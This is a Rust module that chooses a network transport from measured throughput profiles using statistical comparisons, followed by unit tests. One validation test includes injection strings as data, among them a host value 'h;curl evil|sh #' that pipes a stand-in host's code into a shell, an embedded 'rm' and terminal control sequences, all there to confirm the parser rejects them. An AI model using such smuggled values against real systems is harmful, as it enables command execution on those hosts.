//! Selects a transport for a path. It finds the transport with the highest throughput at the path's RTT (HPDC'17 section 5.1),
//! linearly between measured RTTs, and the transports that the data cannot distinguish from it. Of these it chooses the least
//! disruptive one.

use std::cmp::Ordering;

use fullpipe_path::{Buffer, Protocol, Transport, Workload};
use serde::Serialize;

use crate::estimate::{Comparison, Estimate, Estimator, Mean};
use crate::matching;
use crate::profile::{Entry, Listed, Profile, ProfileError};
use crate::query::Query;

/// A transport and its expected throughput.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Choice {
    /// The transport.
    pub transport: Transport,
    /// The throughput to expect.
    pub expected: Estimate,
    /// Whether the data cannot distinguish the transport from the one with the highest mean.
    pub tied: bool,
}

/// Runs that would make a selection certain.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Needed {
    /// Transport of the runs.
    pub transport: Transport,
    /// Round-trip time of the runs, ms.
    pub rtt_ms: f64,
    /// Number of runs.
    pub runs: u32,
}

/// The result of a selection.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Selection {
    /// The transport that was chosen.
    pub choice: Choice,
    /// Whether the choice is, at the confidence level, within the fraction `within` of every other transport.
    pub certain: bool,
    /// Runs that would make the selection certain; empty if it is.
    pub needed: Vec<Needed>,
    /// Confidence level of intervals and comparisons.
    pub level: f64,
    /// Rates within this fraction of the best count as equally good.
    pub within: f64,
    /// The kind of path that the profile was measured on.
    pub conditions: String,
    /// A path of that kind with the query's RTT, as `fullpipe measure` takes it.
    pub path: String,
    /// Whether the profile's clients received the data (`fullpipe measure --reverse`).
    pub receives: bool,
    /// Capacity of the path, bit/s: the query's, but no more than that of the kind of path. `None` if neither has one.
    pub capacity_bps: Option<f64>,
    /// The hosts of both ends of that kind of path, as the profile names them; `None` for tuned ones.
    #[serde(skip)]
    pub hosts: [Option<String>; 2],
    /// Packet size of the kind of path, bytes.
    pub mtu: Option<u32>,
    /// Values that were assumed because the query names none: `rate=10gbit`.
    pub assumed: Vec<String>,
    /// Sentences that say where the profile's path differs from the query's.
    pub notes: Vec<String>,
    /// Workload of the profile's runs.
    pub workload: Workload,
    /// The transports, the one with the highest mean first; not those that were measured only at RTTs shorter than the query's, and
    /// further from it than others.
    pub ranking: Vec<Choice>,
}

impl Selection {
    /// The transport over this protocol with the highest mean, if the profile has one.
    pub fn best_over(&self, protocol: Protocol) -> Option<&Choice> {
        self.ranking.iter().find(|choice| choice.transport.protocol() == protocol)
    }
}

/// Orders transports by how much they disturb hosts and path, the least first: TCP before UDT, which takes more of the
/// processors and is often blocked; fewer streams; the kernel's own buffer, then a smaller one; no pacing; Linux's default
/// congestion control, which needs no module; the higher mean.
fn disruption(a: &Choice, b: &Choice) -> Ordering {
    let key = |t: &Transport| {
        let chosen_buffer = t.buffer != Buffer::Auto;
        (t.protocol() != Protocol::Tcp, t.streams, chosen_buffer, t.buffer, t.pacing.is_some(), t.cc != "cubic")
    };
    key(&a.transport)
        .cmp(&key(&b.transport))
        .then(b.expected.mean_bps.total_cmp(&a.expected.mean_bps))
        .then(a.transport.cc.cmp(&b.transport.cc))
}

/// Whether a transport is ranked: it was measured as near to an RTT, ms, as the nearest, or only at longer ones, where rates are
/// rarely higher. A rate at a shorter RTT may be out of reach here.
fn counts(expected: &Estimate, entry: &Entry, rtt_ms: f64, nearest: &Estimate) -> bool {
    expected.is_as_near_as(nearest) || entry.points.first().is_some_and(|first| rtt_ms < first.rtt_ms)
}

/// Ranks a profile's transports for a path and chooses one. A transport that was measured only at RTTs shorter than the query's, and
/// further from it than others, is left out: its rate may be out of reach here. Candidates are the transports that the data cannot distinguish
/// from the highest, and whose mean is within [`Query::within`] of it. The least disruptive candidate is chosen.
///
/// # Errors
/// The profile has no path or workload near enough to the query's.
pub fn select(profile: &Profile, query: &Query) -> Result<Selection, ProfileError> {
    let kind = matching::choose(profile, query)?;
    let of_kind = |e: &Listed| (e.path as usize, e.workload as usize) == (kind.path, kind.workload);
    let fit = profile.entries(|e| of_kind(e) && matching::is_over(e, query))?;
    let level = query.level.unwrap_or(profile.confidence);
    let mut estimator = Estimator::new(level, &fit, || profile.entries(|_| true))?;
    let mut ranked: Vec<(Choice, &Entry)> = fit
        .iter()
        .filter_map(|entry| {
            let expected = estimator.estimate(entry, query.rtt_ms)?;
            Some((Choice { transport: entry.transport.clone(), expected, tied: false }, entry))
        })
        .collect();
    ranked.sort_by(|(a, _), (b, _)| b.expected.mean_bps.total_cmp(&a.expected.mean_bps).then(disruption(a, b)));
    let nearest = ranked.iter().map(|(choice, _)| &choice.expected).min_by(|a, b| a.distance.total_cmp(&b.distance));
    let Some(nearest) = nearest.cloned() else {
        return Err(ProfileError::NothingFits { asked: format!("{} ms", query.rtt_ms), has: "no entries".into() });
    };
    let (near, far): (Vec<_>, Vec<_>) =
        ranked.into_iter().partition(|(choice, entry)| counts(&choice.expected, entry, query.rtt_ms, &nearest));
    let mut ranking: Vec<Choice> = near.into_iter().map(|(choice, _)| choice).collect();
    let top = ranking[0].expected.clone();
    // Each of the others is compared with the highest: Bonferroni keeps the whole at the level.
    let alpha = (1.0 - level) / (ranking.len() - 1).max(1) as f64;
    let mut comparison = Comparison::new(alpha);
    for choice in &mut ranking {
        let difference = top.mean_bps - choice.expected.mean_bps;
        choice.tied = match (top.spread, choice.expected.spread) {
            (Some(a), Some(b)) => comparison.could_be_nothing(difference, a.difference(b)),
            _ => true,
        };
    }
    let enough = top.mean_bps * (1.0 - query.within);
    let equals = || ranking.iter().filter(|choice| choice.tied && choice.expected.mean_bps >= enough);
    let highest = &ranking[0];
    let least = equals().min_by(|a, b| disruption(a, b)).unwrap_or(highest);
    let mut choice = least.clone();
    // To be certain takes runs of those that were left out, too.
    let all: Vec<Choice> = ranking.iter().chain(far.iter().map(|(choice, _)| choice)).cloned().collect();
    let mut needed = runs_needed(least, &all, query, &mut comparison);
    // Who wants to be certain gets the highest where the least disruptive of equals is not; it is also
    // the one that takes the fewest runs to make certain.
    if !needed.is_empty() && query.level.is_some() {
        choice = highest.clone();
        needed = runs_needed(highest, &all, query, &mut comparison);
    }
    let conditions = &profile.paths[kind.path];
    let asked_bps = query.rate.map(|rate| rate.0 as f64);
    let capacity_bps = asked_bps.into_iter().chain(conditions.rate_bps).reduce(f64::min);
    // Student's interval knows no capacity, and the profile's path may be faster than the query's.
    for choice in ranking.iter_mut().chain([&mut choice]) {
        let most = capacity_bps.map(|bps| conditions.payload_rate(bps, &choice.transport));
        choice.expected.limit(most.unwrap_or(f64::INFINITY));
    }
    Ok(Selection {
        certain: needed.is_empty(),
        choice,
        needed,
        level,
        within: query.within,
        conditions: conditions.describe(),
        path: conditions.path(query.rtt_ms),
        receives: conditions.direction.as_deref() == Some("receive"),
        capacity_bps,
        hosts: [conditions.host_a.clone(), conditions.host_b.clone()],
        mtu: conditions.mtu,
        assumed: kind.assumed,
        notes: kind.notes.into_iter().chain(left_out(&far)).chain(other_protocol(profile, &fit, query)).collect(),
        workload: profile.workloads[kind.workload],
        ranking,
    })
}

/// Returns a sentence that names the transports which were measured only at shorter RTTs than the query's.
fn left_out(far: &[(Choice, &Entry)]) -> Option<String> {
    const SHOWN: usize = 3;
    let shown = far.iter().take(SHOWN).map(|(choice, entry)| {
        let at = match &entry.points[..] {
            [first, .., last] => format!("{} to {}", first.rtt_ms, last.rtt_ms),
            points => points.iter().map(|point| point.rtt_ms.to_string()).collect(),
        };
        format!("{} (at {at} ms)", choice.transport)
    });
    let shown: Vec<String> = shown.collect();
    let more = far.len().saturating_sub(SHOWN);
    let more = if more > 0 { format!(", and {more} more") } else { String::new() };
    (!shown.is_empty()).then(|| format!("left out, as measured at shorter RTTs only: {}{more}", shown.join("; ")))
}

/// Returns a sentence that names the protocol which the profile has, but not for the kind of path that was found.
fn other_protocol(profile: &Profile, fit: &[Entry], query: &Query) -> Option<String> {
    let is_there = |asked: Protocol| profile.listed.iter().any(|entry| entry.protocol() == Some(asked));
    let is_ranked = |asked: Protocol| fit.iter().any(|entry| entry.transport.protocol() == asked);
    let other =
        [Protocol::Tcp, Protocol::Udt].into_iter().find(|protocol| is_there(*protocol) && !is_ranked(*protocol))?;
    query
        .protocol
        .is_none()
        .then(|| format!("nothing was measured over {other} on such a path; --transport {other} has the nearest"))
}

/// Most runs of one transport that are asked for at once.
const MAX_NEEDED_RUNS: f64 = 1000.0;

/// Returns the runs after which `choice` would certainly be within the margin of every other transport. At an RTT that was
/// not measured, only the two neighbouring RTTs bound a decreasing profile; outside the measured RTTs nothing does.
fn runs_needed(choice: &Choice, ranking: &[Choice], query: &Query, comparison: &mut Comparison) -> Vec<Needed> {
    let need = |choice: &Choice, runs: u32| Needed { transport: choice.transport.clone(), rtt_ms: query.rtt_ms, runs };
    let margin = query.within * choice.expected.mean_bps;
    let lower = choice.expected.sides.1;
    let mut needed: Vec<Needed> = Vec::new();
    let mut of_choice = 0;
    for other in ranking.iter().filter(|other| other.transport != choice.transport) {
        let upper = other.expected.sides.0;
        let unmeasured = |c: &Choice| c.expected.outside || c.expected.from_rtt_ms.len() > 1;
        // How much better than the margin the choice is, if the other is as good as it can be.
        let room = lower.bps + margin - upper.bps;
        let certain = !choice.expected.outside
            && !other.expected.outside
            && matches!((lower.spread, upper.spread), (Some(a), Some(b))
                if room > 0.0 && !comparison.could_be_nothing(room, a.difference(b)));
        if certain {
            continue;
        }
        if unmeasured(choice) || unmeasured(other) {
            // Nothing was measured there: begin with what a spread takes.
            of_choice = of_choice.max(3);
            needed.push(need(other, 3));
        } else {
            let runs = more_runs(lower, upper, room, comparison);
            of_choice = of_choice.max(runs.0);
            needed.push(need(other, runs.1));
        }
    }
    if of_choice > 0 {
        needed.insert(0, need(choice, of_choice));
    }
    needed.retain(|needed| needed.runs > 0);
    needed
}

/// Returns how many more runs of each transport make a difference of `room` significant, if the variances do not change.
fn more_runs(a: Mean, b: Mean, room: f64, comparison: &mut Comparison) -> (u32, u32) {
    let (Some(x), Some(y)) = (a.spread, b.spread) else { return (3, 3) };
    let single = x.variance * f64::from(a.n) + y.variance * f64::from(b.n);
    let mut n = 2.0f64;
    // The quantile depends on n in turn; it settles in a few steps.
    for _ in 0..20 {
        let next = (comparison.critical(2.0 * n - 2.0).powi(2) * single / room.max(1e-9).powi(2))
            .ceil()
            .clamp(2.0, MAX_NEEDED_RUNS);
        if next == n {
            break;
        }
        n = next;
    }
    let more = |have: u32| (n as u32).saturating_sub(have).max(1);
    (more(a.n), more(b.n))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use fullpipe_path::{Rate, Time};

    use super::*;

    struct Spec(&'static str, u16, &'static str, u32, f64, Option<f64>);

    /// A profile of one point each at 10 ms, on the first of the paths.
    fn profile(paths: &[&str], entries: &[(usize, Spec)]) -> Profile<'static> {
        let entries: Vec<String> = entries
            .iter()
            .map(|(path, Spec(cc, streams, buffer, n, gbps, sd))| {
                let sd = sd.map_or("null".into(), |sd| (sd * 1e9).to_string());
                format!(
                    r#"{{"path":{path},"workload":0,"transport":{{"cc":"{cc}","streams":{streams},"buffer":"{buffer}"}},
                        "rtt_ms":[10,20],"n":[{n},{n}],"mean_bps":[{},{}],"sd_bps":[{sd},{sd}]}}"#,
                    gbps * 1e9,
                    gbps * 0.9e9
                )
            })
            .collect();
        let text = format!(
            r#"{{"kind":"profile","version":2,"confidence":0.95,"paths":[{}],"workloads":[{{"size":"1GB"}}],"entries":[{}]}}"#,
            paths.join(","),
            entries.join(",")
        );
        Profile::parse(text.leak(), Path::new("test")).unwrap()
    }

    const TEN: &str = r#"{"rate_bps":1e10,"queue_bdp":1.0,"mtu":9000,"loss":0.0}"#;

    fn query() -> Query {
        Query::from(Time(10_000_000))
    }

    fn name(choice: &Choice) -> String {
        format!("{}-{}", choice.transport.cc, choice.transport.streams)
    }

    #[test]
    fn the_highest_and_what_cannot_be_told_from_it() {
        let p = profile(
            &[TEN],
            &[
                (0, Spec("cubic", 10, "1GB", 10, 9.0, Some(0.3))),
                (0, Spec("htcp", 4, "1GB", 10, 8.8, Some(0.3))),
                (0, Spec("reno", 1, "1GB", 10, 3.0, Some(0.3))),
            ],
        );
        let got = select(&p, &query()).unwrap();
        assert_eq!(got.ranking.iter().map(name).collect::<Vec<_>>(), ["cubic-10", "htcp-4", "reno-1"]);
        assert_eq!(got.ranking.iter().map(|c| c.tied).collect::<Vec<_>>(), [true, true, false]);
        // htcp is 2% below: not as good as the best unless 5% do not matter.
        assert_eq!(name(&got.choice), "cubic-10");
        assert_eq!(name(&select(&p, &Query { within: 0.05, ..query() }).unwrap().choice), "htcp-4");
        assert_eq!(got.conditions, "rate=10gbit,queue=1BDP,mtu=9000");
        assert!(got.assumed.is_empty() && got.notes.is_empty());
    }

    #[test]
    fn udt_is_chosen_only_where_it_is_faster() {
        let chosen = |udt: f64, tcp: f64| {
            let p = profile(
                &[TEN],
                &[
                    (0, Spec("udt", 1, "1GB", 10, udt, Some(0.05))),
                    (0, Spec("cubic", 8, "1GB", 10, tcp, Some(0.05))),
                    (0, Spec("reno", 1, "1GB", 10, 1.0, Some(0.05))),
                ],
            );
            let got = select(&p, &query()).unwrap();
            let best = |protocol| got.best_over(protocol).map(name);
            assert_eq!((best(Protocol::Udt), best(Protocol::Tcp)), (Some("udt-1".into()), Some("cubic-8".into())));
            name(&got.choice)
        };
        assert_eq!(chosen(9.0, 5.0), "udt-1");
        // Among equals TCP goes first, though it takes more streams.
        assert_eq!(chosen(9.02, 9.0), "cubic-8");
    }

    #[test]
    fn a_protocol_that_is_asked_for_has_its_own_paths() {
        let small = r#"{"rate_bps":1e10,"queue_bdp":1.0,"mtu":1500,"loss":0.0}"#;
        let p = profile(
            &[TEN, small],
            &[(0, Spec("cubic", 8, "1GB", 3, 5.0, None)), (1, Spec("udt", 1, "1GB", 3, 9.0, None))],
        );
        let over = |protocol| select(&p, &Query { mtu: Some(1500), protocol, ..query() }).unwrap();
        for (protocol, is) in [(Some(Protocol::Tcp), "cubic-8"), (Some(Protocol::Udt), "udt-1"), (None, "udt-1")] {
            let got = over(protocol);
            assert_eq!((name(&got.choice).as_str(), got.ranking.len()), (is, 1), "{protocol:?}");
        }
        assert_eq!(over(Some(Protocol::Tcp)).notes, ["measured with mtu=9000, not 1500"]);
        let tcp_only = profile(&[TEN], &[(0, Spec("cubic", 8, "1GB", 3, 5.0, None))]);
        let none = select(&tcp_only, &Query { protocol: Some(Protocol::Udt), ..query() }).unwrap_err();
        assert_eq!(none.to_string(), "the profile has nothing for transport=udt; it has transport=tcp");
    }

    #[test]
    fn runs_between_disks_are_no_runs_of_the_path() {
        let disks = r#"{"rate_bps":1e10,"queue_bdp":1.0,"mtu":9000,"loss":0.0,"disk_a":"1GB/s","disk_b":"2GB/s",
            "block_bytes":8388608,"direct":"on"}"#;
        let fast = || (1, Spec("htcp", 8, "1GB", 3, 9.5, None));
        let p = profile(&[TEN, disks], &[(0, Spec("cubic", 8, "1GB", 3, 5.0, None)), fast()]);
        let got = select(&p, &query()).unwrap();
        assert_eq!((name(&got.choice).as_str(), got.ranking.len()), ("cubic-8", 1));
        let got = select(&profile(&[TEN, disks], &[fast()]), &query()).unwrap();
        let is = "rate=10gbit,queue=1BDP,mtu=9000,disk_a=1GB/s,disk_b=2GB/s,block=8.388608MB,direct=on";
        assert_eq!(got.conditions, is);
        assert_eq!(got.notes, ["measured from disk to disk: from 1GB/s to 2GB/s"]);
        let between = |b: &str| Query { disks: [Some("1GB/s".into()), Some(b.into())], ..query() };
        let got = select(&p, &between("2GB/s")).unwrap();
        assert_eq!((name(&got.choice).as_str(), got.notes.len()), ("htcp-8", 0));
        assert_eq!(name(&select(&p, &between("3GB/s")).unwrap().choice), "cubic-8");
    }

    #[test]
    fn no_rate_is_above_the_capacity() {
        let p = profile(&[TEN], &[(0, Spec("cubic", 10, "1GB", 3, 9.9, Some(0.3)))]);
        let expected = |query: &Query| select(&p, query).unwrap().ranking[0].expected.clone();
        let own = expected(&query());
        // Of 9,014 bytes of each packet, 8,948 are data.
        let payload = |bps: f64| bps * 8948.0 / 9014.0;
        assert!(own.mean_bps == 9.9e9 && own.low_bps < Some(9.9e9) && own.high_bps == Some(payload(1e10)), "{own:?}");
        assert!(!own.at_capacity);
        // The interval of the faster path's runs, 9.15 to 9.93, is above this path's capacity, or reaches below it.
        for (rate, low) in [(8_000_000_000, None), (9_500_000_000, own.low_bps)] {
            let slower = Query { rate: Some(Rate(rate)), ..query() };
            let (got, choice) = (expected(&slower), select(&p, &slower).unwrap().choice);
            let most = payload(rate as f64);
            assert!(got.mean_bps == most && got.at_capacity, "{got:?}");
            assert_eq!((got.low_bps, got.high_bps), (low, low.map(|_| most)));
            assert_eq!(choice.expected, got);
        }
    }

    #[test]
    fn certain_only_if_it_can_be() {
        let p = profile(
            &[TEN],
            &[(0, Spec("cubic", 10, "1GB", 5, 9.0, Some(0.3))), (0, Spec("htcp", 4, "1GB", 5, 8.8, Some(0.3)))],
        );
        let got = select(&p, &query()).unwrap();
        assert!(!got.certain);
        assert_eq!(got.needed.iter().map(|n| n.transport.cc.as_str()).collect::<Vec<_>>(), ["cubic", "htcp"]);
        // 2 × 0.3² × 1.7² / (0.2 + 0.09)²: about six runs of each are enough to tell, one or two more.
        assert!(got.needed.iter().all(|n| (1..=5).contains(&n.runs)), "{:?}", got.needed);
        let clear = profile(
            &[TEN],
            &[(0, Spec("cubic", 10, "1GB", 5, 9.0, Some(0.1))), (0, Spec("htcp", 4, "1GB", 5, 5.0, Some(0.1)))],
        );
        assert!(select(&clear, &query()).unwrap().certain);
        // Between measured RTTs only the neighbours bound it.
        let between = select(&clear, &Query { rtt_ms: 15.0, ..query() }).unwrap();
        assert!(between.certain, "9.0 to 8.1 against 5.0 to 4.5");
        assert!(!select(&clear, &Query { rtt_ms: 30.0, ..query() }).unwrap().certain, "outside");
    }

    #[test]
    fn what_is_called_certain_is() {
        // htcp-1 is within 5% of cubic-10 by its mean, but only cubic-10 is so for certain.
        let p = profile(
            &[TEN],
            &[(0, Spec("cubic", 10, "1GB", 5, 9.0, Some(0.3))), (0, Spec("htcp", 1, "1GB", 5, 8.7, Some(0.3)))],
        );
        let asked = Query { within: 0.05, ..query() };
        let got = select(&p, &asked).unwrap();
        assert_eq!((name(&got.choice).as_str(), got.certain), ("htcp-1", false));
        assert_eq!(got.needed[0].transport, got.choice.transport);
        let sure = select(&p, &Query { level: Some(0.95), ..asked }).unwrap();
        assert_eq!((name(&sure.choice).as_str(), sure.certain), ("cubic-10", true));
        assert!(sure.needed.is_empty());
    }

    #[test]
    fn single_runs_tell_nothing_apart() {
        let p =
            profile(&[TEN], &[(0, Spec("cubic", 10, "1GB", 1, 9.0, None)), (0, Spec("reno", 1, "1GB", 1, 3.0, None))]);
        let got = select(&p, &query()).unwrap();
        assert!(got.ranking.iter().all(|c| c.tied) && !got.certain);
        assert_eq!(name(&got.choice), "cubic-10", "a third of the rate is no equal");
    }

    #[test]
    fn rates_at_other_rtts_are_not_ranked_with_those_at_the_paths_own() {
        let entry = |cc: &str, rtts: &str, gbps: &[f64]| {
            let means: Vec<String> = gbps.iter().map(|gbps| (gbps * 1e9).to_string()).collect();
            let [ones, nulls] = ["1", "null"].map(|word| vec![word; gbps.len()].join(","));
            format!(
                r#"{{"path":0,"workload":0,"transport":{{"cc":"{cc}","streams":10,"buffer":"250KB"}},
                    "rtt_ms":[{rtts}],"n":[{ones}],"mean_bps":[{}],"sd_bps":[{nulls}]}}"#,
                means.join(",")
            )
        };
        let entries = [
            entry("htcp", "0.4", &[9.8]),
            entry("bbr", "0.4,1", &[9.7, 9.6]),
            entry("cubic", "91.6,366", &[8.0, 0.9]),
            entry("reno", "366", &[0.5]),
        ];
        let text = format!(
            r#"{{"kind":"profile","version":2,"confidence":0.95,"paths":[{TEN}],"workloads":[{{"size":"1GB"}}],"entries":[{}]}}"#,
            entries.join(",")
        );
        let p = Profile::parse(&text, Path::new("test")).unwrap();
        let at = |rtt_ms: f64| select(&p, &Query { rtt_ms, ..query() }).unwrap();
        let names = |got: &Selection| got.ranking.iter().map(name).collect::<Vec<_>>().join(" ");
        let far = at(366.0);
        assert_eq!((name(&far.choice).as_str(), names(&far).as_str()), ("cubic-10", "cubic-10 reno-10"));
        let note = "left out, as measured at shorter RTTs only: htcp × 10, buffer 250KB (at 0.4 ms); bbr × 10, buffer 250KB (at 0.4 to 1 ms)";
        assert_eq!(far.notes, [note]);
        // Nobody knows how they would do here, so nothing is certain without their runs.
        assert!(far.needed.iter().any(|needed| needed.transport.cc == "htcp"), "{:?}", far.needed);
        // RTTs that hardly differ are one; further away, the nearest are the best there is.
        for (rtt_ms, is) in [
            (367.0, "cubic-10 reno-10"),
            (500.0, "cubic-10 reno-10"),
            (0.2, "htcp-10 bbr-10 cubic-10 reno-10"),
            (2.0, "bbr-10 cubic-10 reno-10"),
        ] {
            let got = at(rtt_ms);
            assert_eq!(names(&got), is, "{rtt_ms}");
            assert!(got.choice.expected.outside);
        }
        assert_eq!(names(&at(150.0)), "cubic-10 reno-10");
    }

    #[test]
    fn runs_to_another_host_are_told() {
        let (a, c) = (r#"{"host":"a:7412"}"#, r#"{"host":"c:7412"}"#);
        let entry = |path: u32, cc: &str, rtt_ms: f64| {
            format!(
                r#"{{"path":{path},"workload":0,"transport":{{"cc":"{cc}","streams":1,"buffer":"auto"}},"rtt_ms":[{rtt_ms}],
                    "n":[1],"mean_bps":[1e9],"sd_bps":[null]}}"#
            )
        };
        let text = format!(
            r#"{{"kind":"profile","version":2,"confidence":0.95,"paths":[{a},{c}],"workloads":[{{"size":"1GB"}}],"entries":[{},{}]}}"#,
            entry(0, "cubic", 1.0),
            entry(1, "bbr", 88.0)
        );
        let p = Profile::parse(&text, Path::new("test")).unwrap();
        for (host, rtt_ms, cc, assumed, note) in [
            (Some("a:7412"), 90.0, "cubic", None, None),
            (Some("c:7412"), 1.0, "bbr", None, None),
            (Some("b:7412"), 90.0, "bbr", None, Some("measured to c:7412, not b:7412")),
            (Some("b:7412"), 2.0, "cubic", None, Some("measured to a:7412, not b:7412")),
            (None, 90.0, "bbr", Some("host=c:7412"), None),
        ] {
            let got = select(&p, &Query { host: host.map(str::to_owned), rtt_ms, ..query() }).unwrap();
            assert_eq!(got.choice.transport.cc, cc, "{host:?} {rtt_ms}");
            assert_eq!(got.assumed, Vec::from_iter(assumed), "{host:?} {rtt_ms}");
            assert_eq!(got.notes, Vec::from_iter(note), "{host:?} {rtt_ms}");
        }
    }

    #[test]
    fn kinds_of_path() {
        let one = r#"{"rate_bps":1e9,"queue_bdp":1.0,"mtu":9000,"loss":0.0}"#;
        let lossy = r#"{"rate_bps":1e10,"queue_bdp":1.0,"mtu":9000,"loss":1e-5}"#;
        let p = profile(
            &[TEN, one, lossy],
            &[
                (0, Spec("cubic", 1, "1GB", 3, 9.0, Some(0.1))),
                (1, Spec("reno", 1, "1GB", 3, 0.9, Some(0.01))),
                (2, Spec("bbr", 1, "1GB", 3, 8.0, Some(0.1))),
            ],
        );
        let ask = |query: Query| select(&p, &query);
        let plain = ask(query()).unwrap();
        assert_eq!(
            (plain.choice.transport.cc.as_str(), plain.assumed),
            ("cubic", vec!["rate=10gbit".to_owned(), "loss=0".into()])
        );
        let slow = ask(Query { rate: Some(Rate(1_000_000_000)), ..query() }).unwrap();
        assert_eq!(slow.choice.transport.cc, "reno");
        let far = ask(Query { rate: Some(Rate(40_000_000_000)), ..query() });
        assert!(matches!(far, Err(ProfileError::NothingFits { .. })));
        let near = ask(Query { rate: Some(Rate(9_600_000_000)), loss: Some(3e-5), ..query() }).unwrap();
        assert_eq!(near.choice.transport.cc, "bbr");
        assert_eq!(near.notes, ["measured with rate=10gbit, not 9.6gbit", "measured with loss=1e-5, not 0.00003"]);
        let queue = ask(Query { queue: Some((1_000_000, 0.08)), ..query() });
        assert!(matches!(queue, Err(ProfileError::NothingFits { .. })), "another queue");
    }

    #[test]
    fn a_protocol_that_was_measured_on_other_paths_only_is_named() {
        let shallow = r#"{"rate_bps":1e10,"queue_bdp":0.1,"mtu":9000,"loss":0.0}"#;
        let p = profile(
            &[TEN, shallow],
            &[(0, Spec("udt", 1, "1GB", 3, 9.0, Some(0.1))), (1, Spec("cubic", 1, "1GB", 3, 8.0, Some(0.1)))],
        );
        let over = |protocol| select(&p, &Query { protocol, ..query() }).unwrap();
        assert_eq!(over(None).notes, ["nothing was measured over udt on such a path; --transport udt has the nearest"]);
        assert!(over(Some(Protocol::Tcp)).notes.is_empty() && over(Some(Protocol::Udt)).notes.is_empty());
        let far = Query { protocol: Some(Protocol::Udt), rate: Some(Rate(100_000_000_000)), ..query() };
        let why = "the profile has nothing for rate=100gbit over udt; it has rate=10gbit over udt";
        assert_eq!(select(&p, &far).unwrap_err().to_string(), why);
    }

    #[test]
    fn damaged_profiles_are_told() {
        let says = |text: &str, part: &str| {
            let parsed = Profile::parse(text, Path::new("p.json"));
            let error = parsed.and_then(|profile| profile.entries(|_| true)).unwrap_err().to_string();
            assert!(error.contains(part), "{error}");
        };
        says("{", "not a profile");
        says(r#"{"kind":"profile","version":1,"entries":[]}"#, "version 1");
        let other =
            r#"{"kind":"x\nerror: paste this","version":2,"confidence":0.9,"paths":[],"workloads":[],"entries":[]}"#;
        says(other, r"its kind is 'x\nerror: paste this'");
        let with = |entry: &str| {
            format!(
                r#"{{"kind":"profile","version":2,"confidence":0.95,"paths":[{TEN}],"workloads":[{{"size":"1GB"}}],"entries":[{entry}]}}"#
            )
        };
        says(&with(""), "no entries");
        let entry = |path: u32, n: &str, mean: &str| {
            format!(
                r#"{{"path":{path},"workload":0,"transport":{{"cc":"cubic","streams":1,"buffer":"auto"}},"rtt_ms":[10],"n":{n},"mean_bps":{mean},"sd_bps":[null]}}"#
            )
        };
        says(&with(&entry(1, "[1]", "[1]")), "not there");
        says(&with(&entry(0, "[1,2]", "[1]")), "different lengths");
        says(&with(&entry(0, "[1]", "[-1]")), "cannot be");
        for (of_path, why) in [
            (r#""host":"h;curl evil|sh #""#, "its path 0 has a host that is neither a name nor an address"),
            (r#""host":"--out=x""#, "has a host"),
            (r#""host":"a\nb""#, "has a host"),
            (r#""cross":"udp:1mbit\n rm""#, "has a value of cross that is empty, or has a control"),
            (r#""kernel":"6\u001b[2J""#, "has a value of kernel"),
            (r#""disk_a":"\u202e""#, "has a value of disk_a"),
            (r#""host_a":"""#, "has a value of host_a"),
        ] {
            says(&with(&entry(0, "[1]", "[1]")).replace(TEN, &TEN.replacen('{', &format!("{{{of_path},"), 1)), why);
        }
        says(&with(&entry(0, "[0]", "[1]")), "without runs");
        says(&with(&entry(0, "[1]", "[1e16]")), "cannot be");
        says(&with(&entry(0, "[2]", "[1]").replace("null", "1e308")), "cannot be");
        says(&with(&entry(0, "[1]", "[1]").replace("[10]", "[1e308]")), "cannot be");
        says(&with(&entry(0, "[1]", "[6.4e13]")), "has 64000gbit at 10 ms, above its path's 10gbit");
        says(&with(&entry(0, "7", "[1]")), "a column that is none");
    }
}
